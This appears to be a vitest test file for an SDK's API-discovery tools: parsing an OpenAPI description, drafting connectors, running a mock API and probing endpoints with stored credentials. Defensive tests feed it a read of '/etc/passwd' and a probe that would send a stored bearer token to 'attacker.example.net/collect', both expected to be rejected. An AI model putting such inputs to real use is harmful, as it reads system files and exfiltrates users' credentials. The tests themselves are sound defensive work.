// The discovery tools through the SDK's real Client: discover an API from its description, draft and verify a
// connector, run its mock, and probe an endpoint with a stored connection's credentials.
import { writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { startTestApi } from '@pullpush/testkit';
import { describe, expect, it } from 'vitest';
import { connect } from './support.ts';

const description = {
  openapi: '3.0.3',
  info: { title: 'Help Desk', version: '1.2' },
  servers: [{ url: 'https://desk.example.com/api' }],
  components: { securitySchemes: { token: { type: 'http', scheme: 'bearer' } } },
  security: [{ token: [] }],
  paths: {
    '/tickets': {
      get: {
        operationId: 'listTickets',
        parameters: [
          { name: 'cursor', in: 'query', schema: { type: 'string' } },
          { name: 'limit', in: 'query', schema: { type: 'integer', maximum: 50 } },
        ],
        responses: {
          200: {
            description: 'tickets',
            content: {
              'application/json': {
                schema: {
                  type: 'object',
                  properties: {
                    data: { type: 'array', items: { type: 'object', required: ['id'], properties: { id: { type: 'integer' }, title: { type: 'string' }, state: { type: 'string' }, created_at: { type: 'string', format: 'date-time' }, updated_at: { type: 'string', format: 'date-time' } } } },
                    next_cursor: { type: 'string' },
                  },
                },
              },
            },
          },
        },
      },
    },
  },
};

describe('discover_api', () => {
  it('lists the list operations of a description given as text, and one in full', async () => {
    const { ok } = await connect();
    const text = JSON.stringify(description);
    const found = await ok<{ title: string; listOperations: Array<{ id: string; pagination: string; key: string }>; operations: { list: number } }>('discover_api', { text });
    expect(found).toMatchObject({ title: 'Help Desk', operations: { list: 1 }, listOperations: [{ id: 'listTickets', pagination: 'cursor 0.9', key: 'id' }] });
    const one = await ok<{ operation: { pagination: { evidence: Array<{ pointer: string }> } } }>('discover_api', { text, operation: 'GET /tickets' });
    expect(one.operation.pagination.evidence.map((entry) => entry.pointer)).toContain('/paths/~1tickets/get/parameters/0');
  });

  it('reads a path only under the working directory or the workspace, and wants the description once', async () => {
    const { fails, dir, ok } = await connect();
    const inWorkspace = join(dir, 'workspace', 'openapi.json');
    writeFileSync(inWorkspace, JSON.stringify(description));
    expect(await ok('discover_api', { path: inWorkspace })).toMatchObject({ title: 'Help Desk' });
    const outside = await fails('discover_api', { path: '/etc/passwd' });
    expect(outside).toMatchObject({ code: 'MCP_INVALID_ARGUMENTS', message: expect.stringContaining('outside') });
    expect(await fails('discover_api', { text: '{}', url: 'https://example.com/openapi.json' })).toMatchObject({ code: 'MCP_INVALID_ARGUMENTS' });
    expect(await fails('discover_api', { path: relative(process.cwd(), '/etc/hostname') })).toMatchObject({ code: 'MCP_INVALID_ARGUMENTS' });
  });

  it('fails with the discovery code and a hint on a document that is not a description', async () => {
    const { fails } = await connect();
    expect(await fails('discover_api', { text: '{"name": "x"}' })).toMatchObject({ code: 'DISCOVERY_NOT_A_DESCRIPTION', hint: expect.stringContaining('OpenAPI') });
  });
});

describe('generate_connector', () => {
  it('drafts, verifies against the mock API, and stores the draft', { timeout: 60_000 }, async () => {
    const { ok, fails } = await connect();
    const text = JSON.stringify(description);
    const result = await ok<{ definition: { id: string; streams: Record<string, { canonical?: string }> }; ok: boolean; verification: { verdict: string; streams: Array<{ pages: number }> }; saved: { id: string; revision: number }; report: { streams: Array<{ choices: unknown[] }> } }>(
      'generate_connector',
      { text, verify: true, save: true },
    );
    expect(result.ok).toBe(true);
    expect(result.definition).toBeUndefined();
    expect((await ok<{ document: { streams: Record<string, { canonical?: string }> } }>('get_definition', { definition: 'help-desk' })).document.streams['tickets']?.canonical).toBe('ticketing.ticket@1');
    expect(result.verification.verdict).toBe('pass');
    expect(result.verification.streams[0]?.pages).toBeGreaterThanOrEqual(2);
    expect(result.saved).toEqual({ id: 'help-desk', revision: 1 });
    expect(await ok('get_definition', { definition: 'help-desk' })).toMatchObject({ revision: 1 });
    expect(await fails('generate_connector', { text, save: true })).toMatchObject({ code: 'MCP_ALREADY_EXISTS' });
    expect(await fails('generate_connector', { text, streams: ['listTicket'] })).toMatchObject({ code: 'DISCOVERY_UNKNOWN_OPERATION' });
  });
});

describe('start_mock_api and stop_mock_api', () => {
  it('serves the description until stopped', { timeout: 60_000 }, async () => {
    const { ok, fails } = await connect();
    const mock = await ok<{ id: string; url: string; credentials: { accessToken: string } }>('start_mock_api', { text: JSON.stringify(description), records: 12 });
    const page = await fetch(`${mock.url}/tickets?limit=50`, { headers: { authorization: `Bearer ${mock.credentials.accessToken}` } });
    expect(((await page.json()) as { data: unknown[] }).data).toHaveLength(10);
    expect(await ok('stop_mock_api', { mock: mock.id })).toEqual({ id: mock.id, requests: 1 });
    await expect(fetch(`${mock.url}/tickets`)).rejects.toThrow();
    expect(await fails('stop_mock_api', { mock: mock.id })).toMatchObject({ code: 'MCP_NOT_FOUND' });
  });
});

describe('probe_endpoint', () => {
  it('probes with a stored connection\'s credentials, only on its own host, never returning them', { timeout: 60_000 }, async () => {
    const token = 'probe-mcp-secret-9f2c';
    const api = await startTestApi({ auth: { kind: 'bearer', token } });
    try {
      const { ok, fails } = await connect();
      const definition = {
        dsl: 'pullpush/v1',
        id: 'probe-target',
        name: 'Probe target',
        version: '1.0.0',
        config: { type: 'object', required: ['token'], properties: { token: { type: 'string', secret: true } } },
        http: { baseUrl: 'https://api.example.com' },
        auth: { kind: 'bearer', token: '{{ $config.token }}' },
        streams: { customers: { request: { path: '/cursor/customers' }, records: { path: 'data' }, primaryKey: ['id'] } },
      };
      await ok('create_definition', { document: definition });
      await ok('create_connection', { connection: 'target', definition: 'probe-target', config: { token }, baseUrl: api.url });
      const result = await ok<{ pagination: { spec: { kind: string } }; records: { path: string } }>('probe_endpoint', { url: `${api.url}/cursor/customers?limit=3`, connection: 'target' });
      expect(result).toMatchObject({ pagination: { spec: { kind: 'cursor' } }, records: { path: 'data' } });
      expect(JSON.stringify(result)).not.toContain(token);
      const elsewhere = await fails('probe_endpoint', { url: 'https://attacker.example.net/collect', connection: 'target' });
      expect(elsewhere).toMatchObject({ code: 'MCP_INVALID_ARGUMENTS', message: expect.stringContaining('not sent to attacker.example.net') });
      expect(await fails('probe_endpoint', { url: `${api.url}/cursor/customers` })).toMatchObject({ code: 'ENGINE_HTTP_STATUS' });
    } finally {
      await api.close();
    }
  });
});
